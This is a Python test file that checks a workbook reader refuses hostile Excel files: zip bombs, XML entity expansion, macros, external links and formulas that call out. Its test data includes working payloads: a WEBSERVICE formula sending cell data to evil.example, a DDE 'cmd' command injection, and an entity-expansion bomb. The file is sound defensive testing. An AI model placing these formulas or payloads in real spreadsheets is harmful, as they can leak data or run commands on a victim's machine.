"""A hostile or huge workbook is refused in plain words, quickly, and without filling the memory."""

import time
import tracemalloc
from contextlib import suppress
from pathlib import Path

import pytest

from cli.workbook.merge import merged
from cli.workbook.returned import given_back
from engine.assess import Options, assess
from evidence.problems import BadInput
from evidence.read import read_evidence
from evidence.workbook.guard import MAX_PART
from tests.strategies import real
from tests.workbook.made import made, with_parts

SHEET = "xl/worksheets/sheet2.xml"
_MB = 1024 * 1024


def refused(path: Path) -> str:
    """What is said of a workbook that is refused: within seconds, and within the memory of what it may unpack to."""
    tracemalloc.start()
    began = time.perf_counter()
    with pytest.raises(BadInput) as bad:
        read_evidence(path)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.perf_counter() - began < 60  # tracing makes it many times slower than it is
    assert most < 450 * _MB
    return str(bad.value)


def inside(path: Path, old: bytes, new: bytes) -> Path:
    """The workbook with something in its first theme replaced."""
    return with_parts(path, {SHEET: lambda xml: xml.replace(old, new, 1)})


def test_a_zip_bomb_is_refused(tmp_path):
    """A part that unpacks to hundreds of megabytes is read no further than is allowed."""
    path = with_parts(made(tmp_path / "a.xlsx"), {"xl/media/bomb.xml": b"<a>" + b" " * 300 * _MB})
    assert path.stat().st_size < 2 * _MB
    assert "unpacks to over" in refused(path)


def test_many_small_bombs_are_refused_together(tmp_path):
    """Parts that are each within bounds are bounded together."""
    path = with_parts(made(tmp_path / "a.xlsx"), {f"xl/media/{n}.bin": b"\0" * 100 * _MB for n in range(4)})
    assert "unpacks to over 320 MB" in refused(path)


def test_styles_without_end_are_refused(tmp_path):
    """Parts that a library makes large things of are bounded more tightly."""
    path = with_parts(made(tmp_path / "a.xlsx"), {"xl/styles.xml": lambda xml: xml + b" " * (MAX_PART["xl/styles.xml"] * _MB)})
    assert "xl/styles.xml unpacks to over" in refused(path)


def test_entities_are_refused(tmp_path):
    """A part that declares entities is not read, whichever it is."""
    laughs = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>'
    assert "declares entities" in refused(with_parts(made(tmp_path / "a.xlsx"), {"docProps/custom.xml": laughs}))
    assert "declares entities" in refused(with_parts(made(tmp_path / "b.xlsx"), {SHEET: lambda _: laughs}))


def test_entities_in_another_encoding_are_refused(tmp_path):
    """UTF-16 does not hide them."""
    hidden = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>'.encode("utf-16")
    assert "not XML in UTF-8" in refused(with_parts(made(tmp_path / "a.xlsx"), {SHEET: lambda _: hidden}))


@pytest.mark.parametrize(
    ("part", "says"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/activeX/activeX1.xml", "macros"),
        ("xl/externalLinks/externalLink1.xml", "from other files"),
        ("xl/connections.xml", "from other files"),
        ("xl/queryTables/queryTable1.xml", "from other files"),
        ("xl/embeddings/oleObject1.bin", "embedded"),
    ],
)
def test_active_parts_are_refused(tmp_path, part, says):
    """Macros, controls, links and embedded files are named, and not read."""
    assert says in refused(with_parts(made(tmp_path / "a.xlsx"), {part: b"<a/>"}))


def test_a_macro_workbook_under_another_name_is_refused(tmp_path):
    """What the parts say they are counts, not the name of the file."""
    path = with_parts(made(tmp_path / "a.xlsx"), {"[Content_Types].xml": lambda xml: xml.replace(b".sheet.main", b".sheet.macroEnabled.main")})
    assert "macros" in refused(path)


def test_a_template_from_the_network_is_refused(tmp_path):
    """A relationship that leads out of the workbook is refused; a link that a reader may click is not."""
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://x/%s" Target="http://evil.example/" TargetMode="External"/></Relationships>'
    )
    part = "xl/worksheets/_rels/sheet1.xml.rels"
    assert "from other files" in refused(with_parts(made(tmp_path / "a.xlsx"), {part: rels % b"image"}))
    assert read_evidence(with_parts(made(tmp_path / "b.xlsx"), {part: rels % b"hyperlink"}))


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://evil.example/"&amp;A1)',
        "WEB&#83;ERVICE(A1)",
        "cmd|'/c calc'!A0",
        "[1]Sheet1!A1",
        "'[1]Other sheet'!A1",
        'RTD("prog",,"x")',
        'IMAGE("https://evil.example/x.png")',
        '_xlfn.FILTERXML(A1,"//a")',
        "'\\\\evil\\share\\[x.xlsx]S'!A1",
    ],
)
def test_a_formula_that_calls_out_is_refused_with_its_place(tmp_path, formula):
    """Formulas that reach a program, a file or the network are refused; the message says where they stand."""
    message = refused(inside(made(tmp_path / "a.xlsx"), b"<sheetData>", b'<sheetData><row r="1"><c r="Z1"><f>%s</f><v>1</v></c></row>' % formula.encode()))
    assert "reaches beyond the workbook" in message
    assert "in row 1 of sheet First theme" in message


@pytest.mark.parametrize("formula", ["SUM(A1:A9)", "COUNTA(C:C)-1", "Table1[Score]", "Table1[2020]", 'IF(A1="[1]","x","")', "TODAY()"])
def test_an_ordinary_formula_is_read(tmp_path, formula):
    """People may count and compare in their workbooks."""
    cell = f'<sheetData><row r="1"><c r="Z1"><f>{formula}</f><v>1</v></c></row>'.encode()
    assert read_evidence(inside(made(tmp_path / "a.xlsx"), b"<sheetData>", cell))


def test_a_rule_or_name_that_calls_out_is_refused(tmp_path):
    """Drop-downs and names have formulas, too."""
    rule = b'<dataValidation type="custom" sqref="Z1"><formula1>WEBSERVICE("http://evil.example")</formula1></dataValidation></dataValidations>'
    assert "in a rule of sheet" in refused(inside(made(tmp_path / "a.xlsx"), b"</dataValidations>", rule))
    named = {"xl/workbook.xml": lambda xml: xml.replace(b"</definedNames>", b'<definedName name="x">[1]S!A1</definedName></definedNames>')}
    assert "the name 'x'" in refused(with_parts(made(tmp_path / "b.xlsx"), named))


def test_millions_of_empty_coloured_cells_are_refused(tmp_path):
    """A sheet coloured to its last row is refused, and the message says what to delete."""
    rows = b"".join(b'<row r="%d">%s</row>' % (n, b'<c s="1"/>' * 2000) for n in range(10_000, 11_000))
    message = refused(inside(made(tmp_path / "a.xlsx"), b"</sheetData>", rows + b"</sheetData>"))
    assert "over 1,000,000 cells" in message
    assert "delete the empty rows" in message


@pytest.mark.parametrize("where", [b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', b'<hyperlinks><hyperlink ref="A1:XFD1048576"/></hyperlinks>'])
def test_a_range_over_the_whole_sheet_is_refused(tmp_path, where):
    """What would make billions of cells of one line is refused before anything is made of it."""
    assert "over 1,000,000 cells" in refused(inside(made(tmp_path / "a.xlsx"), b"</sheetData>", b"</sheetData>" + where))


def test_a_table_over_the_whole_sheet_is_refused(tmp_path):
    """The same holds for tables."""
    table = b'<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" ref="A1:XFD1048576"/>'
    assert "reaches over more cells" in refused(with_parts(made(tmp_path / "a.xlsx"), {"xl/tables/table1.xml": table}))


def test_one_cell_in_the_last_corner_does_no_harm(tmp_path):
    """A sheet is as large as what is in it, not as the place of its last cell."""
    path = inside(made(tmp_path / "a.xlsx"), b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    known, _ = read_evidence(path)
    began = time.perf_counter()
    assert given_back(
        assess(real("corporate-peer-review", "element.2.3")[1], real("corporate-peer-review")[0], known, Options(audience="team", matcher="direct")),
        path,
        known,
        (),
        None,
    )
    assert merged([path, path])[0]
    assert time.perf_counter() - began < 20


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"PK\x03\x04" + b"x" * 1000, b"\xd0\xcf\x11\xe0" + b"\0" * 600])
def test_what_is_no_workbook_is_refused(tmp_path, content):
    """A damaged, encrypted or old file is answered in plain words."""
    path = tmp_path / "a.xlsx"
    path.write_bytes(content)
    assert "workbook" in refused(path)


@pytest.mark.parametrize("part", ["xl/workbook.xml", SHEET, "xl/sharedStrings.xml", "xl/styles.xml", "xl/_rels/workbook.xml.rels"])
@pytest.mark.parametrize("damage", [lambda xml: xml[: len(xml) // 2], lambda _: b"<a/>", lambda _: b"nothing"])
def test_a_damaged_part_gives_no_traceback(tmp_path, part, damage):
    """Whatever part is cut short or replaced, the answer is a list of problems or a set."""
    path = with_parts(made(tmp_path / "a.xlsx"), {part: damage})
    with suppress(BadInput):
        assert read_evidence(path)[0].authority.name == "Ambleford"
